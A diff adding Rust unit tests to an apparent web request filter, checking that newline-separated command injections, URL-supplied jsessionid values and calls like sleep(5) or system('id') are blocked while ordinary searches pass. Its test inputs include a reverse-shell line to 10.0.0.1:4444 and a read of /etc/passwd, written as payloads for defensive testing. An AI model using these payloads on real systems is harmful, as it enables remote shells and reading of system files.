@@ -1718,3 +1718,72 @@ fn command_and_statement_searches_pass() {
         assert!(blocked(&request(&format!("/item?{query}")), ""), "{query}");
     }
 }
+
+/// A newline ends a shell command as `;` does, so a command on the line
+/// after a one-word value is an injection in any body format.
+#[test]
+fn newline_separated_command_is_blocked() {
+    let form = |body: &str| with_body("POST", "application/x-www-form-urlencoded", body);
+    for body in [
+        "host=8.8.8.8%0Aid",
+        "host=8.8.8.8%0D%0Acat+%2Fetc%2Fpasswd",
+        "file=a.txt%0A%0Abash+-i+%3E%26+%2Fdev%2Ftcp%2F10.0.0.1%2F4444+0%3E%261",
+    ] {
+        assert!(
+            detected_ids(&form(body), body).contains(&"cmdi-newline-command"),
+            "{body}"
+        );
+        assert!(blocked(&form(body), body), "{body}");
+    }
+    let body = r#"{"host": "8.8.8.8\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}"#;
+    assert!(blocked(&with_body("POST", "application/json", body), body));
+    // A post whose shell lines follow prose or a code fence passes.
+    for body in [
+        "message=%60%60%60bash%0Aexport+PATH%3D%22%24HOME%2F.cargo%2Fbin%3A%24PATH%22%0A%60%60%60",
+        "message=Try+this+first%3A%0Als+-la+%2Ftmp",
+        "notes=Team%3A+Payments%0ASleep+8+hours",
+    ] {
+        assert!(!blocked(&form(body), body), "{body}");
+    }
+}
+
+/// Generic session parameter names carry ids that the application issued
+/// itself, such as Stripe's checkout `session_id`. Only the names of
+/// frameworks that accept a session id from the URL count.
+#[test]
+fn generic_session_parameters_pass() {
+    assert!(!blocked(
+        &request("/checkout/success?session_id=cs_test_a1B2c3D4e5F6"),
+        ""
+    ));
+    assert!(!blocked(&request("/chat?sessionId=8f14e45fceea167a"), ""));
+    assert!(blocked(
+        &request("/login?jsessionid=74B0CB414BD77D17B5680A6386EF1666"),
+        ""
+    ));
+}
+
+/// English words that are also function names pass before a parenthesis
+/// that does not open an argument list.
+#[test]
+fn words_before_parentheses_pass() {
+    for query in [
+        "q=sleep+mask+%282+pack%29",
+        "q=express+shipping+%282+days%29",
+        "q=vanilla+extract+%284+oz%29",
+        "q=Mail+%28application%29",
+        "q=Link+%28The+Legend+of+Zelda%29",
+    ] {
+        assert!(
+            !blocked(&request(&format!("/search?{query}")), ""),
+            "{query}"
+        );
+    }
+    for query in [
+        "x=1+and+sleep%285%29",
+        "x=system+%28%27id%27%29",
+        "x=system%28id%29",
+    ] {
+        assert!(blocked(&request(&format!("/item?{query}")), ""), "{query}");
+    }
+}
